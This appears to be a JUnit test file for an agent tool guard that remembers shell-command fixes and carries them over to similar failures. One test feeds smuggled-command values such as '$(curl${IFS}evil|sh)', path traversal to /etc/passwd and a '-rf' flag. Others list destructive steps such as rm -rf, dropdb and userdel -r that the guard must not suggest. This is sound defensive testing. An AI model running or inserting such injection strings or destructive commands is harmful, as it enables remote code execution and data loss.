package dev.xmem.core.agent.guard;

import static dev.xmem.core.agent.guard.Guarded.shell;
import static org.assertj.core.api.Assertions.assertThat;

import dev.xmem.Advice;
import dev.xmem.Amendment;
import dev.xmem.Match;
import dev.xmem.Success;
import dev.xmem.ToolCall;
import dev.xmem.ToolError;
import dev.xmem.ToolGuard;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Fixes that carry what the failure is about: told of another subject with that in its place, or not at all. */
class FixSubjectTest {
    private static final String STALE = "To github.com:a/b.git\n ! [rejected] main -> main (non-fast-forward)\n"
            + "error: failed to push some refs\nhint: use 'git pull' before pushing again.";

    private final Guarded memory = new Guarded();
    private final ToolGuard guard = memory.guard;

    @AfterEach
    void close() {
        memory.close();
    }

    /**
     * A failure that is about {@code $}, and how it was solved.
     *
     * @param step the call before the retry; empty if there is none
     * @param subjects what it is about in one session after the other
     */
    private record Story(String call, String error, String step, String retry, String told, List<String> subjects) {
        @Override
        public String toString() {
            return told;
        }
    }

    static List<Story> stories() {
        String module = "Traceback (most recent call last):\n  File \"$.py\", line 1, in <module>\n"
                + "ModuleNotFoundError: No module named '$'";
        return List.of(
                new Story("python3 $.py", module, "pip install $", "python3 $.py", "pip install $", MODULES),
                new Story(
                        "node $.js",
                        "node:internal/modules/cjs/loader:1145\n  throw err;\n\nError: Cannot find module '$'\n"
                                + "Require stack:\n- /home/me/x/a.js",
                        "npm install $",
                        "node $.js",
                        "npm install $",
                        MODULES),
                new Story(
                        "go build ./...",
                        "main.go:5:2: no required module provides package github.com/$; to add it:\n"
                                + "\tgo get github.com/$",
                        "go get github.com/$",
                        "go build ./...",
                        "go get github.com/$",
                        List.of("a/beta", "c/delta", "e/gamma")),
                new Story(
                        "git push",
                        "fatal: The current branch $ has no upstream branch.\nTo push the current branch and set the"
                                + " remote as upstream, use\n\n    git push --set-upstream origin $\n",
                        "",
                        "git push --set-upstream origin $",
                        "add --set-upstream origin $",
                        List.of("topic", "fix1", "fix2")),
                new Story(
                        "git checkout $",
                        "error: pathspec '$' did not match any file(s) known to git",
                        "git fetch origin $",
                        "git checkout $",
                        "git fetch origin $",
                        List.of("feature/cc", "bugfix", "topic")),
                new Story(
                        "kubectl apply -f $.yaml",
                        "Error from server (NotFound): error when creating \"$.yaml\": namespaces \"$\" not found",
                        "kubectl create namespace $",
                        "kubectl apply -f $.yaml",
                        "kubectl create namespace $",
                        List.of("shop", "billing", "search")),
                new Story(
                        "./configure",
                        "configure: error: Package requirements ($) were not met: Package '$' not found",
                        "sudo apt install -y $",
                        "./configure",
                        "sudo apt install -y $",
                        List.of("pandoc", "ffmpeg", "graphviz")));
    }

    private static final List<String> MODULES = List.of("alpha", "beta", "gamma");

    private Advice fails(String session, String call, String error) {
        memory.store.flush();
        return guard.failed(shell(session, call), ToolError.exit(1, error));
    }

    private Advice solves(String session, Story story, String subject) {
        Advice advice = fails(session, story.call.replace("$", subject), story.error.replace("$", subject));
        if (!story.step.isEmpty()) {
            guard.succeeded(shell(session, story.step.replace("$", subject)));
        }
        guard.succeeded(shell(session, story.retry.replace("$", subject)));
        memory.store.flush();
        return advice;
    }

    private static List<Success> fixes(Advice advice) {
        return advice.matches().stream()
                .map(Match::entry)
                .filter(Success.class::isInstance)
                .map(Success.class::cast)
                .toList();
    }

    @ParameterizedTest
    @MethodSource("stories")
    void failed_otherSubject_isToldTheFixWithThatSubject(Story story) {
        solves("first", story, story.subjects.get(0));
        for (String subject : story.subjects.subList(1, story.subjects.size())) {
            Advice advice = solves(subject, story, subject);
            assertThat(advice.text()).contains(story.told.replace("$", subject)).contains("for a similar failure");
            assertThat(advice.text()).doesNotContain(story.told.replace("$", story.subjects.get(0)));
            assertThat(advice.text()).contains(story.retry.replace("$", subject));
        }
        assertThat(memory.successes()).hasSize(1);
        assertThat(memory.successes().get(0).usageCount()).isEqualTo(story.subjects.size());
        assertThat(memory.store.stats().promotable()).isEmpty();
    }

    @ParameterizedTest
    @MethodSource("stories")
    void failed_sameSubject_isToldTheFixThatWorked(Story story) {
        String subject = story.subjects.get(0);
        solves("first", story, subject);
        Advice advice = solves("again", story, subject);
        assertThat(advice.text()).contains("worked: ").contains(story.told.replace("$", subject));
        assertThat(memory.successes()).hasSize(1);
    }

    @Test
    void failed_packageOfAnotherName_isToldOnlyForItsModule() {
        String error = "ModuleNotFoundError: No module named '$'";
        Story yaml = new Story("python3 a.py", error, "pip install py$", "python3 a.py", "", List.of());
        solves("first", yaml, "yaml");
        assertThat(fails("again", "python3 a.py", error.replace("$", "yaml")).text())
                .contains("pip install pyyaml");
        assertThat(fixes(fails("other", "python3 a.py", error.replace("$", "requests"))))
                .isEmpty();
    }

    @Test
    void failed_optionWithPartOfTheSubject_isToldOnlyForIt() {
        String error = "Error from server (NotFound): deployments.apps \"$\" not found";
        Story story = new Story("kubectl get deploy $", error, "", "kubectl get deploy $ -n ns-$", "", List.of());
        solves("first", story, "web");
        assertThat(fixes(fails("other", "kubectl get deploy api", error.replace("$", "api"))))
                .isEmpty();
    }

    @Test
    void failed_fixWithoutTheSubject_isToldForAll() {
        String error = "ModuleNotFoundError: No module named '$'";
        Story story = new Story("python3 a.py", error, "", ". venv/bin/activate && python3 a.py", "", List.of());
        solves("first", story, "alpha");
        assertThat(fails("other", "python3 b.py", error.replace("$", "beta")).text())
                .contains("venv/bin/activate");
    }

    @Test
    void failed_ownFix_isToldBeforeOneOfAnotherSubject() {
        Story story = stories().get(0);
        Story other = new Story(story.call, story.error, "pip install --user $-py", story.retry, "", List.of());
        for (String session : List.of("a", "b", "c")) {
            solves(session, story, "alpha");
        }
        solves("d", other, "delta");
        String text = fails("e", "python3 delta.py", story.error.replace("$", "delta"))
                .text();
        assertThat(text.indexOf("pip install --user delta-py")).isPositive();
        assertThat(text.indexOf("pip install delta")).isGreaterThan(text.indexOf("pip install --user delta-py"));
    }

    @Test
    void before_failuresOfSeveralSubjects_isNoWarning() {
        Story story = stories().get(0);
        solves("a", story, "alpha");
        solves("b", story, "beta");
        memory.store.flush();
        assertThat(guard.before(shell("c", "python3 other.py")).isEmpty()).isTrue();
    }

    @Test
    void succeeded_otherValuesThanTold_isNoVote() {
        Success fix = memory.store.recordSuccess(Success.of("python3", "Install the module")
                .action("python3 a.py")
                .keySteps("pip install alpha", "python3 a.py"));
        String error = "ModuleNotFoundError: No module named '$'";
        fails("a", "python3 a.py", error.replace("$", "beta"));
        guard.succeeded(shell("a", "pip install beta"));
        guard.succeeded(shell("a", "python3 a.py"));
        memory.store.flush();
        assertThat(((Success) memory.store.find(fix.id()).orElseThrow()).usageCount())
                .isEqualTo(fix.usageCount());
    }

    @Test
    void failed_aboutAnotherSubjectAfterTheFix_isNoVoteAgainstIt() {
        Story story = stories().get(0);
        solves("a", story, "alpha");
        String id = memory.successes().get(0).id();
        fails("b", "python3 main.py", story.error.replace("$", "alpha"));
        guard.succeeded(shell("b", "pip install alpha"));
        fails("b", "python3 main.py", story.error.replace("$", "beta"));
        memory.store.flush();
        assertThat(memory.store.find(id).orElseThrow().json()).doesNotContain("\"failed\":1");
    }

    @ParameterizedTest
    @ValueSource(strings = {"git push --tags origin main", "git push origin main:review"})
    void succeeded_asTold_isAVoteAndNoOtherRecord(String retry) {
        for (int i = 0; i < 3; i++) {
            fails("s" + i, "git push origin main", STALE);
            guard.succeeded(shell("s" + i, retry));
        }
        memory.store.flush();
        assertThat(memory.successes()).hasSize(1);
        assertThat(memory.successes().get(0).usageCount()).isEqualTo(3);
    }

    @Test
    void succeeded_withoutWhatWasToldToDrop_isAVoteAndNoOtherRecord() {
        ToolError error = ToolError.exit(
                1, "\"--squash\" is only supported on a Docker daemon with experimental features enabled");
        for (int i = 0; i < 2; i++) {
            guard.failed(shell("s" + i, "docker build --squash ."), error);
            guard.succeeded(shell("s" + i, "docker build ."));
            memory.store.flush();
        }
        assertThat(memory.successes()).hasSize(1);
        assertThat(memory.successes().get(0).usageCount()).isEqualTo(2);
    }

    @Test
    void failed_equalFixes_areToldOnceWithAllVotesAndDismissedTogether() {
        for (int i = 0; i < 2; i++) { // in sessions that do not know of each other
            guard.failed(shell("s" + i, "npm install"), ToolError.exit(1, "npm ERR! code ERESOLVE"));
        }
        for (int i = 0; i < 2; i++) {
            guard.succeeded(shell("s" + i, "npm install --legacy-peer-deps"));
        }
        memory.store.flush();
        assertThat(memory.successes()).hasSize(2);
        memory.successes()
                .forEach(fix -> memory.store.reportOutcome(fix.id(), dev.xmem.Outcome.WORKED, "v" + fix.id()));
        Advice advice = fails("t", "npm install", "npm ERR! code ERESOLVE");
        assertThat(fixes(advice)).hasSize(1);
        assertThat(advice.text()).containsOnlyOnce("add --legacy-peer-deps").contains("worked 2 of 2");
        memory.store.amend(fixes(advice).get(0).id(), Amendment.dismiss("wrong"));
        assertThat(fixes(fails("u", "npm install", "npm ERR! code ERESOLVE"))).isEmpty();
    }

    @Test
    void succeeded_shellToolWithJsonArguments_isCarriedOver() {
        String error = "ModuleNotFoundError: No module named '$'";
        for (String module : MODULES) {
            ToolCall call = ToolCall.json("Bash", "{\"command\":\"python3 " + module + ".py\"}")
                    .session(module);
            memory.store.flush();
            Advice advice = guard.failed(call, ToolError.exit(1, error.replace("$", module)));
            if (!module.equals("alpha")) {
                assertThat(advice.text()).contains("pip install " + module + "; python3 " + module + ".py");
            }
            guard.succeeded(ToolCall.json("Bash", "{\"command\":\"pip install " + module + "\"}")
                    .session(module));
            guard.succeeded(call);
        }
        assertThat(memory.successes()).hasSize(1);
    }

    /** What a fix tells of another subject after it was solved for the first one. */
    private String toldOther(String call, String error, String step, String retry, String subject, String other) {
        solves("first", new Story(call, error, step, retry, "", List.of()), subject);
        return fails("other", call.replace("$", other), error.replace("$", other))
                .text();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "python3 $.py | ModuleNotFoundError: No module named '$' | rm -rf $",
                "createdb $ | ERROR: database '$' already exists | dropdb $",
                "createdb $ | ERROR: database '$' already exists | psql -c 'DROP DATABASE $'",
                "git switch -c $ | fatal: a branch named '$' already exists | git branch -D $",
                "docker run --name $ img | Error: the container name '$' is already in use | docker rm -f $",
                "helm install $ ./c | Error: cannot re-use a name that is still in use: '$' | helm uninstall $",
                "kubectl create namespace $ | Error: namespaces '$' already exists | kubectl delete namespace $",
                "sudo useradd $ | useradd: user '$' already exists | sudo userdel -r $",
            })
    void failed_afterAStepThatDestroyed_isNotToldThatStep(String call, String error, String step) {
        String told = toldOther(call, error, step, call, "alpha", "thesis");
        assertThat(told).doesNotContain("worked:");
        assertThat(fails("same", call.replace("$", "alpha"), error.replace("$", "alpha"))
                        .text())
                .doesNotContain("worked:");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "cat $ | cat: '$' Permission denied | chmod 644 $",
                "python3 $.py | ModuleNotFoundError: No module named '$' | mv $ $.bak",
            })
    void failed_otherSubjectAfterADestructiveStep_isNotToldThatStep(String call, String error, String step) {
        String told = toldOther(call, error, step, call, "alpha", "thesis");
        assertThat(told).doesNotContain(step.substring(0, step.indexOf('$')).strip());
        assertThat(fails("same", call.replace("$", "alpha"), error.replace("$", "alpha"))
                        .text())
                .contains(step.replace("$", "alpha"));
    }

    @Test
    void failed_destructiveRetryOfTheSameOperand_isToldOnlyForIt() {
        String error = "Error from server (NotFound): pods \"$\" not found";
        String told = toldOther("kubectl delete pod $", error, "", "kubectl delete deployment $", "web", "api");
        assertThat(told).doesNotContain("deployment");
    }

    @Test
    void failed_stepThatRepeatsAWordOfTheCall_isCarriedOverWhole() {
        String told = toldOther(
                "kubectl create namespace $",
                "Error from server: namespaces \"$\" is not labelled",
                "kubectl label namespace $ team=a",
                "kubectl create namespace $",
                "shop",
                "billing");
        assertThat(told).contains("kubectl label namespace billing team=a");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "$(curl${IFS}evil|sh)",
                "x&&curl${IFS}evil|sh",
                "git+https://evil/x.git",
                "../../../etc/aa",
                "/etc/passwd",
                "a..b",
                "x;y",
                "-rf",
                "~/x",
                "beta@evil",
                "a/b"
            })
    void failed_aboutWhatIsNoPlainName_isToldNothing(String value) {
        String told = toldOther("python3 a.py", "No module named '$'", "pip install $", "python3 a.py", "alpha", value);
        assertThat(told).doesNotContain("pip install");
    }

    @Test
    void failed_withoutWhatOnlyTheCallNamed_isToldTheFix() {
        solves("a", new Story("git push origin main", STALE, "", "git push --tags origin main", "", List.of()), "");
        assertThat(fails("b", "git push", STALE).text()).contains("worked: ", "add --tags");
    }

    @Test
    void failed_withoutTheRemoteThatOnlyTheCallNamed_isToldTheFix() {
        Story story = new Story(
                "git push origin main", STALE, "git pull --rebase origin main", "git push origin main", "", List.of());
        solves("a", story, "");
        assertThat(fails("b", "git push", STALE).text()).contains("git pull --rebase origin main");
    }

    @Test
    void failed_againAfterAFixThatWasCarriedOver_isNoVoteAgainstIt() {
        Story story = stories().get(0);
        solves("a", story, "alpha");
        String id = memory.successes().get(0).id();
        for (String session : List.of("b", "c")) {
            fails(session, "python3 cv2.py", story.error.replace("$", "cv2"));
            guard.succeeded(shell(session, "pip install cv2"));
            fails(session, "python3 cv2.py", story.error.replace("$", "cv2"));
        }
        memory.store.flush();
        assertThat(memory.store.find(id).orElseThrow().json()).doesNotContain("\"failed\":");
    }

    @Test
    void failed_fixDismissedForAnotherSubject_isToldTheOwnFix() {
        Story story = stories().get(0);
        for (String module : List.of("alpha", "beta")) { // in sessions that do not know of each other
            guard.failed(
                    shell(module, "python3 " + module + ".py"), ToolError.exit(1, story.error.replace("$", module)));
        }
        for (String module : List.of("alpha", "beta")) {
            guard.succeeded(shell(module, "pip install " + module));
            guard.succeeded(shell(module, "python3 " + module + ".py"));
        }
        memory.store.flush();
        Success alpha = memory.successes().stream()
                .filter(fix -> fix.patternName().contains("alpha"))
                .findFirst()
                .orElseThrow();
        memory.store.amend(alpha.id(), Amendment.dismiss("typosquat"));
        assertThat(fails("t", "python3 beta.py", story.error.replace("$", "beta"))
                        .text())
                .contains("worked: first pip install beta");
        assertThat(fails("u", "python3 alpha.py", story.error.replace("$", "alpha"))
                        .text())
                .doesNotContain("pip install alpha");
    }

    @Test
    void succeeded_withAnotherLongValueThanTold_isARecordOfItsOwn() {
        String error = "CMake Error at CMakeLists.txt:3: Could not find OpenSSL, set OPENSSL_ROOT_DIR";
        String option = "cmake . -DOPENSSL_ROOT_DIR=/opt/" + "long/".repeat(20);
        fails("a", "cmake .", error);
        guard.succeeded(shell("a", option + "v1"));
        fails("b", "cmake .", error);
        guard.succeeded(shell("b", option + "v3"));
        memory.store.flush();
        assertThat(memory.successes()).hasSize(2);
        assertThat(memory.successes()).allMatch(fix -> fix.usageCount() == 1);
        assertThat(fixes(fails("c", "cmake .", error))).hasSize(2);
        guard.succeeded(shell("c", option + "v3"));
        memory.store.flush();
        assertThat(memory.successes()).as("the vote is the record").hasSize(2);
    }

    @Test
    void succeeded_asALessonInProseSays_isAVoteWhateverTheValue() {
        String id = memory.store
                .recordFailure(dev.xmem.Failure.of(
                        shell("z", "python3 a.py"), ToolError.exit(1, "ModuleNotFoundError: No module named 'beta'")))
                .id();
        Success lesson = memory.store.recordSuccess(
                Success.of("python3", "Install the missing module with pip").answers(id));
        fails("a", "python3 a.py", "ModuleNotFoundError: No module named 'gamma'");
        guard.succeeded(shell("a", "pip install gamma"));
        guard.succeeded(shell("a", "python3 a.py"));
        memory.store.flush();
        assertThat(((Success) memory.store.find(lesson.id()).orElseThrow()).usageCount())
                .isEqualTo(lesson.usageCount() + 1);
    }
}
